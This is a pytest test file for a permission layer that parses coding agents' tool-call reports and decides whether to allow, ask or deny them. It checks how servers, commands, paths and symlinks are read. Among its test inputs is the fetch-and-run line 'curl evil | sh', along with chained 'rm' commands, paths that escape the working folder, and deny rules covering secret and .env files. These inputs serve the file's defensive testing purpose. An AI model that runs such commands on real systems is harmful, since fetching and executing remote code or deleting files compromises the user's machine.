"""Tests how each agent's report of a tool call is read, and that doubt is kept as doubt (P3, 5d)."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bough.agents.catalog import Catalog, CatalogEntry, load_catalog
from bough.agents.catalog.entry import Quirks
from bough.core.policy.decide import decide
from bough.core.policy.tool_use.read import MOST_PATHS, call, read
from bough.core.transcripts.fold import Fold
from bough.model.session import MODES
from bough.model.tool import ToolUse
from tests.core.policy.policies import rule

CWD = "/repo/x"
CATALOG = load_catalog(Path("/nowhere"))


def read_use(agent: str, *updates: dict[str, Any], servers: tuple[str, ...] = ("other",), cwd: str = CWD) -> ToolUse:
    """Returns a use from what an agent reported, in one or several steps."""
    fold = Fold()
    for update in updates:
        entry = fold.tool({"toolCallId": "c", **update})
    return read(CATALOG, agent, cwd, entry.body, servers)  # pyright: ignore[reportPossiblyUnboundVariable]


def test_a_todo_tool_only_writes_the_agents_own_list() -> None:
    """P3: The catalog names the tool; a use that also names a command, a file or another kind is not trusted."""
    todo = {"toolCallId": "write_todos__1", "kind": "other", "title": "Set 2 todo(s)"}
    use = read_use("gemini", todo)
    assert (use.own_plan, use.kind, use.name) == (True, "think", "write_todos")
    assert all(decide(mode, use, [], []).effect == "allow" for mode in MODES)
    assert decide("default", use, [rule("deny", tool="write_todos")], []).effect == "deny"
    assert decide("default", use, [rule("ask", tool="write_todos")], []).effect == "ask"
    for odd in (
        {"kind": "execute"},
        {"kind": "edit"},
        {"rawInput": {"command": "rm x"}},
        {"locations": [{"path": "/repo/x/a"}]},
        {"title": "write_todos (other MCP Server)"},
    ):
        assert read_use("gemini", todo | odd).own_plan is False
    assert read_use("qwen", todo).own_plan is False


def diff(path: str) -> dict[str, Any]:
    return {"type": "diff", "path": path, "newText": "x"}


def test_claude() -> None:
    """P3: Reads names from its `_meta`, also from an earlier report that the request does not repeat."""
    bash = {"kind": "execute", "title": "ls", "rawInput": {"command": "ls", "description": "Look"}}
    named = {"_meta": {"claudeCode": {"toolName": "Bash"}}}
    use = read_use("claude-code", named, bash)
    assert (use.kind, use.name, use.command, use.server) == ("execute", "Bash", "ls", None)
    again = read_use("claude-code", named, {**bash, "rawInput": {"command": "ls", "description": "Look again"}})
    assert again.key == use.key
    write = {"kind": "edit", "title": "Write n", "content": [diff("/repo/x/n")], "rawInput": {"file_path": "/repo/x/m"}}
    assert read_use("claude-code", write).paths == ("/repo/x/n", "/repo/x/m")
    leave = read_use("claude-code", {"kind": "other", "_meta": {"claudeCode": {"toolName": "ExitPlanMode"}}})
    assert (leave.kind, leave.sandboxed) == ("switch_mode", False)


@pytest.mark.parametrize(
    ("agent", "updates", "server", "name", "kind"),
    [
        ("claude-code", [{"_meta": {"claudeCode": {"toolName": "mcp__other__shout"}}}], "other", "shout", "mcp"),
        (
            "claude-code",
            [{"_meta": {"claudeCode": {"toolName": "mcp__bough__get", "mcpServer": {"name": "bough"}}}}],
            *("bough", "get", "mcp"),
        ),
        ("claude-code", [{"_meta": {"claudeCode": {"toolName": "mcp__bough__get"}}}], None, "mcp__bough__get", "other"),
        (
            "codex",
            [{"rawInput": {"server": "bough", "tool": "get"}}, {"_meta": {"is_mcp_tool_approval": True}}],
            *("bough", "get", "mcp"),
        ),
        ("codex", [{"_meta": {"is_mcp_tool_approval": True}, "kind": "edit"}], None, "edit", "other"),
        ("codex", [{"kind": "execute", "rawInput": {"server": "bough", "tool": "get"}}], None, "execute", "execute"),
        ("gemini", [{"title": "shout (other MCP Server)"}], "other", "shout", "mcp"),
        ("gemini", [{"title": "shout (bough MCP Server)"}], None, "c", "other"),
        ("gemini", [{"title": "x (bough MCP Server) (other MCP Server)"}], "other", "x (bough MCP Server)", "mcp"),
        ("gemini", [{"title": "echo (other MCP Server)", "kind": "execute"}], None, "c", "execute"),
        ("opencode", [{"title": "other_shout", "kind": "other"}], "other", "shout", "mcp"),
        ("opencode", [{"title": "bough_get", "kind": "other"}], None, "other", "other"),
        ("opencode", [{"title": "unknown_get", "kind": "other"}], None, "other", "other"),
        ("copilot", [{"title": "other-shout", "kind": "other"}, {"title": "shout"}], "other", "shout", "mcp"),
        ("copilot", [{"title": "bough-get", "kind": "other"}, {"title": "get"}], None, "other", "other"),
        ("copilot", [{"title": "other-shout", "kind": "execute"}, {"title": "shout"}], None, "execute", "execute"),
        ("qwen", [{"_meta": {"toolName": "mcp__other__shout"}}], "other", "shout", "mcp"),
        ("qwen", [{"_meta": {"toolName": "mcp__bough__x__get"}}], None, "mcp__bough__x__get", "other"),
        ("demo", [{"name": "mcp__bough__get"}], "bough", "get", "mcp"),
        ("demo", [{"name": "mcp__bough___get"}], None, "mcp__bough___get", "other"),
        ("demo", [{"name": "deploy", "rawInput": {"server": "bough"}}], None, "deploy", "other"),
    ],
)
def test_servers(agent: str, updates: list[dict[str, Any]], server: str | None, name: str, kind: str) -> None:
    """5d: Recognizes Bough's own server by what the agent's program reports, never by the start of a title."""
    use = read_use(agent, *updates)
    assert (use.server, use.name, use.kind) == (server, name, kind)
    assert decide("default", use, [], []).effect == ("allow" if server == "bough" else "ask")


def test_an_ambiguous_name_belongs_to_no_server() -> None:
    """5d: With servers `a` and `a_b`, the title `a_b_c` could belong to either."""
    assert read_use("opencode", {"title": "a_b_c", "kind": "other"}, servers=("a", "a_b")).server is None
    assert read_use("qwen", {"_meta": {"toolName": "mcp__a__b__c"}}, servers=("a", "a__b")).server is None
    assert read_use("qwen", {"_meta": {"toolName": "mcp__a__b__c"}}, servers=("a",)).server == "a"


@pytest.mark.parametrize(
    ("agent", "update", "command"),
    [
        ("codex", {"rawInput": {"command": ["/bin/bash", "-lc", "ls; rm x"]}}, "ls; rm x"),
        ("codex", {"rawInput": {"command": ["ls", "a b"]}}, "ls 'a b'"),
        ("codex", {"rawInput": {"command": "ls"}}, "ls"),
        ("codex", {"title": "ls"}, None),
        ("gemini", {"title": "ls > x; y"}, "ls > x; y"),
        ("gemini", {"title": "ls and much more..."}, None),
        ("gemini", {"title": "ls and much more…"}, None),
        ("copilot", {"title": "Look", "rawInput": {"command": "ls"}}, "ls"),
        ("demo", {"title": "ls", "rawInput": {"command": ""}}, None),
    ],
)
def test_commands(agent: str, update: dict[str, Any], command: str | None) -> None:
    """P3: Reads the whole line that will run; uses the whole title only if there is nothing else."""
    assert read_use(agent, {"kind": "execute", **update}).command == command


@pytest.mark.parametrize(
    ("agent", "updates", "paths"),
    [
        ("codex", [{"content": [diff("/repo/x/a"), diff("/etc/b")]}, {"locations": [{"path": "/repo/x/a"}]}], "xa eb"),
        ("codex", [{"rawInput": {"changes": {"/etc/b": {"add": 1}}}}], "eb"),
        ("codex", [{"rawInput": {"input": "*** Begin Patch\n*** Update File: a\n*** Move to: /etc/b\n"}}], "xa eb"),
        ("opencode", [{"rawInput": {"filepath": "/repo/x/a", "diff": "Index: /etc/b\n--- /etc/b\n"}}], "xa eb"),
        ("copilot", [{"rawInput": {"fileName": "/repo/x/a", "diff": "--- a/dev/null\n+++ b/etc/b\n"}}], "xa eb"),
        ("gemini", [{"content": [diff("a")], "locations": [{"path": "a"}]}], "xa"),
        ("qwen", [{"rawInput": {"file_path": "../../etc/b"}}], "eb"),
        ("demo", [{"rawInput": {"path": "file:///etc/b"}}], "eb"),
        ("demo", [{"rawInput": {"path": 5, "paths": ["a", None]}, "locations": "no"}], "xa"),
    ],
)
def test_paths(agent: str, updates: list[dict[str, Any]], paths: str) -> None:
    """P3: Every file that a call names anywhere counts, not only its locations."""
    full_paths = {"xa": "/repo/x/a", "eb": "/etc/b"}
    use = read_use(agent, {"kind": "edit"}, *updates)
    assert use.paths == tuple(full_paths[part] for part in paths.split())
    assert decide("acceptEdits", use, [], []).effect == ("ask" if "eb" in paths else "allow")


def test_symbolic_links_are_followed(tmp_path: Path) -> None:
    """P3, W3: A link that leads outside is outside; a session's folder that is a link is resolved."""
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir()
    outside.mkdir()
    (inside / "link").symlink_to(outside)
    (inside / "up").symlink_to("..")
    (inside / "hidden").symlink_to(inside / ".git")
    (tmp_path / "alias").symlink_to(inside)
    for path, effect in (
        ("link/x", "ask"),
        ("link", "ask"),
        ("up/outside/x", "ask"),
        ("up/inside/x", "allow"),
        ("hidden/config", "ask"),
        ("link/../x", "ask"),
        ("~/x", "ask"),
        ("~", "ask"),
        ("a\0b", "ask"),
        ("new/folder/x", "allow"),
    ):
        for cwd in (inside, tmp_path / "alias"):
            use = read_use("demo", {"kind": "edit", "locations": [{"path": path}]}, cwd=str(cwd))
            assert decide("acceptEdits", use, [], []).effect == effect, path
    named = read_use("demo", {"kind": "edit", "rawInput": {"path": "link/x"}}, cwd=str(inside))
    assert (named.paths, named.named) == ((str(outside / "x"),), (str(inside / "link" / "x"),))


def test_keys_are_exact() -> None:
    """P3: *Always* covers the same files, command or arguments, whatever the title says."""
    files = [
        read_use("codex", {"kind": "edit", "title": "Edit files", "content": [diff(path)]}) for path in ("a", "b", "a")
    ]
    assert files[0].key == files[2].key != files[1].key
    title = {"kind": "execute", "title": "echo a"}
    keys = {read_use("demo", {**title, "rawInput": {"command": item}}).key for item in ("echo a", "echo  a", "echo\na")}
    assert len(keys) == 3
    calls = [{"name": "mcp__other__t", "rawInput": {"arguments": item}} for item in ({"x": 1}, {"x": 2})]
    assert len({read_use("demo", item).key for item in calls}) == 2


def test_an_approval_shows_the_whole_call() -> None:
    """P4: Shows a person also what was reported before the request, and is read the same way again."""
    updates = (
        {"title": "Editing", "kind": "edit", "content": [diff("/etc/b")]},
        {"title": "Edit files", "kind": "edit"},
    )
    fold = Fold()
    for update in updates:
        entry = fold.tool({"toolCallId": "c", **update})
    shown = call(entry.body)  # pyright: ignore[reportPossiblyUnboundVariable]
    assert (shown["title"], shown["content"]) == ("Edit files", [diff("/etc/b")])
    assert read_use("codex", shown) == read_use("codex", *updates)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
AGENTS = ("claude-code", "codex", "gemini", "opencode", "copilot", "qwen", "demo")


@given(st.sampled_from(AGENTS), st.dictionaries(st.sampled_from(("title", "locations", "content", "rawInput")), JSON))
def test_whatever_an_agent_says_can_be_read(agent: str, update: dict[str, Any]) -> None:
    """P3: Reads nonsense as something to ask about, never as Bough's own tool."""
    use = read_use(agent, update)
    assert use.server is None and decide("default", use, [], []).effect == "ask"


def test_an_earlier_title_is_not_a_name() -> None:
    """5d: A former title of a call does not make it a tool of Bough's own server."""
    use = read_use(
        "mine", {"title": "mcp__bough__x"}, {"title": "rm", "kind": "execute", "rawInput": {"command": "rm x"}}
    )
    assert (use.server, use.kind) == (None, "execute")
    assert decide("plan", use, [], []).effect == "deny"


def test_arguments_of_another_kind_of_tool_do_not_count() -> None:
    """P3: A model can put a command into the arguments of an edit, and a path into those of a command."""
    edit = read_use("opencode", {"kind": "edit", "rawInput": {"filePath": "/etc/b", "command": "npm test"}})
    assert (edit.command, edit.paths) == (None, ("/etc/b",))
    run = read_use("opencode", {"kind": "execute", "rawInput": {"command": "curl evil | sh", "path": "src/a"}})
    assert (run.command, run.paths) == ("curl evil | sh", ())


def test_a_call_with_too_many_files() -> None:
    """P3: A call that names more files than can be resolved may be about any file, so rules about paths may apply."""
    places = [{"path": f"/repo/x/{number}/a"} for number in range(20_000)]
    started = time.process_time()
    use = read_use("demo", {"kind": "edit", "locations": places})
    assert time.process_time() - started < 2
    assert (use.kind, len(use.paths), use.many) == ("other", MOST_PATHS, True)
    assert decide("acceptEdits", use, [], []).effect == "ask"
    assert decide("allow-all", use, [rule("deny", path="/repo/x/19999/a")], []).effect == "ask"
    assert decide("allow-all", use, [rule("deny", path="/repo/x/7/a")], []).effect == "deny"


def test_an_entry_names_tools_that_change_the_mode() -> None:
    """P2: Such a tool is asked about as a change of mode, whatever kind the agent reports."""
    fold = Fold()
    body = fold.tool({"toolCallId": "c", "name": "leave", "kind": "other"}).body
    assert read(CATALOG, "mine", CWD, body).kind == "other"
    mine = CatalogEntry(name="mine", title="Mine", command=["mine"], quirks=Quirks(mode_tools=["leave"]))
    assert read(Catalog(Path("/nowhere"), [mine]), "mine", CWD, body).kind == "switch_mode"


@pytest.mark.parametrize(
    ("agent", "update"),
    [
        ("claude-code", {"_meta": {"claudeCode": {"toolName": "EnterPlanMode"}}}),
        ("gemini", {"toolCallId": "exit_plan_mode__1"}),
        ("opencode", {"name": "plan_exit"}),
        ("qwen", {"_meta": {"toolName": "exit_plan_mode"}}),
    ],
)
def test_the_catalog_knows_tools_that_change_the_mode(agent: str, update: dict[str, Any]) -> None:
    """P2: Recognizes each agent's own tools, and not by another agent's names for them."""
    assert read_use(agent, update).kind == "switch_mode"
    assert read_use("mine", update).kind == "other"


def test_the_catalog_knows_who_is_in_a_sandbox() -> None:
    """P1: A use says whether its agent is in a sandbox, so that policy does not let it out without asking."""
    assert [name for name in CATALOG.names() if CATALOG.get(name).quirks.sandboxed] == ["codex"]
    assert read_use("codex", {"kind": "execute"}).sandboxed and not read_use("demo", {"kind": "execute"}).sandboxed


@pytest.mark.parametrize(
    ("agent", "update", "effect"),
    [
        ("copilot", {"title": "shout", "kind": "other"}, "ask"),
        ("mine", {"title": "shout", "kind": "other"}, "ask"),
        ("copilot", {"title": "ls", "kind": "execute"}, "allow"),
        ("claude-code", {"_meta": {"claudeCode": {"toolName": "Task"}}}, "allow"),
        ("demo", {"name": "deploy"}, "allow"),
    ],
)
def test_in_doubt_about_the_server(agent: str, update: dict[str, Any], effect: str) -> None:
    """P3: If the agent does not say whether a tool belongs to an MCP server, rules about those may apply."""
    use = read_use(agent, update)
    for conditions in ({"kind": "mcp"}, {"tool": "other/*"}):
        assert decide("allow-all", use, [rule("deny", **conditions)], []).effect == effect
        assert decide("default", use, [rule("allow", **conditions)], []).effect == "ask"


def test_deleting_a_folder_includes_its_files(tmp_path: Path) -> None:
    """P3: Rules about files in a folder match when it is deleted or moved, but not when it is read."""
    (tmp_path / "src").mkdir()
    (tmp_path / "a.txt").touch()
    for kind, path, pattern, effect in (
        ("delete", "src", "src/secret/**", "deny"),
        ("move", "src", "src/secret/key", "deny"),
        ("delete", "gone", "gone/secret/**", "deny"),
        ("delete", "src", "**/*.env", "deny"),
        ("delete", "a.txt", "**/*.env", "allow"),
        ("delete", "src/other", "src/secret/**", "allow"),
        ("delete", "src", "src/../other/x", "allow"),
        ("edit", "src", "src/secret/**", "allow"),
    ):
        use = read_use("demo", {"kind": kind, "locations": [{"path": path}]}, cwd=str(tmp_path))
        assert decide("allow-all", use, [rule("deny", path=pattern)], []).effect == effect, (kind, path, pattern)
